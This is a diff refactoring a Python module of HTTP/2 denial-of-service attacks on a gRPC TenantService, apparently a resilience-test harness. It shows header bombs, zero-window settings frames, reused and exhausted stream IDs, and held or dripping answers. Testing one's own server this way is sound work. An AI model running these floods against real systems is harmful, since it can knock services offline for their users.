@@ -5,8 +5,8 @@ An attack yields after each portion of its flood; the caller decides when it is 
 import gzip
 import struct
 
-from clients import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PATH, PING, PRIORITY, RST, SETTINGS, WINDOW,
-                     HalfHandshakes, HalfPreface, OtherPreface, OwnKeys, Several, UnreadSocket, frame)
+from clients import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, NO_WINDOW, PATH, PING, PRIORITY, RST, SETTINGS,
+                     WINDOW, HalfHandshakes, HalfPreface, OtherPreface, OwnKeys, Several, UnreadSocket, frame)
 
 UPDATE = "/tenant.v1.TenantService/UpdateTenant"  # takes larger messages than others
 UPDATE_BYTES = 256 << 10
@@ -68,7 +68,7 @@ def in_pieces(connection, block):
 
 def bomb_without_window(connection):
     """The same by who takes no answer."""
-    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    connection.send(NO_WINDOW)
     return header_bomb(connection)
 
 
@@ -178,20 +178,21 @@ def many_settings(connection):
     return repeated_slowly(connection, lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 40))
 
 
-def streams_backwards(connection):
-    """A stream below one that was opened already, which costs a connection each time."""
-    connection.next_stream()
+def begun_anew(connection, last):
+    """Streams from the first one, below one that was opened already: that costs a connection each time."""
+    connection.stream = last - 2
     connection.send(connection.begin(flags=END_HEADERS | END_STREAM))
     connection.stream = -1
     return repeated_slowly(connection, lambda: connection.begin(flags=END_HEADERS | END_STREAM))
+
+
+def streams_backwards(connection):
+    return begun_anew(connection, 3)
 
 
 def streams_used_up(connection):
     """The last number there is, and then from the beginning."""
-    connection.stream = 0x7ffffffd
-    connection.send(connection.begin(flags=END_HEADERS | END_STREAM))
-    connection.stream = -1
-    return repeated_slowly(connection, lambda: connection.begin(flags=END_HEADERS | END_STREAM))
+    return begun_anew(connection, 0x7fffffff)
 
 
 def data_after_the_end(connection):
@@ -256,7 +257,7 @@ def dripping_bodies(connection):
 
 def unread_answers(connection):
     """A window of nothing: answers pile up."""
-    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    connection.send(NO_WINDOW)
     body = b"\0\0\0\0\x00"
 
     def one():
@@ -268,7 +269,7 @@ def unread_answers(connection):
 def held_answers(connection):
     """As many as may be open, and no more."""
     body = b"\0\0\0\0\x00"
-    return held(connection, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
+    return held(connection, NO_WINDOW + b"".join(
         connection.begin(path="/tenant.v1.TenantService/ListTenants") + frame(DATA, END_STREAM, connection.stream, body)
         for _ in range(90)))
 
@@ -276,7 +277,7 @@ def held_answers(connection):
 def dripping_answers(connection):
     """The same, and a byte of window now and then: always some progress."""
     body = b"\0\0\0\0\x00"
-    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
+    connection.send(NO_WINDOW + b"".join(
         connection.begin(path="/tenant.v1.TenantService/ListTenants") + frame(DATA, END_STREAM, connection.stream, body)
         for _ in range(90)))
     while True:
@@ -300,7 +301,7 @@ def asking_much(connection):
 
 def hoarded_answers(connection):
     """Large ones, and a window of nothing: they lie there."""
-    return held(connection, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) +
+    return held(connection, NO_WINDOW +
                 b"".join(asking_much(connection) for _ in range(90)))
 
 
@@ -313,7 +314,7 @@ def unread_socket(connection):
 
 def answers_on_answers(connection):
     """The same, and once they lie there more is asked for."""
-    connection.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+    connection.send(NO_WINDOW)
     for _ in range(2):
         connection.send(b"".join(asking_much(connection) for _ in range(30)))  # fewer than requests_per_turn
         for _ in range(10):
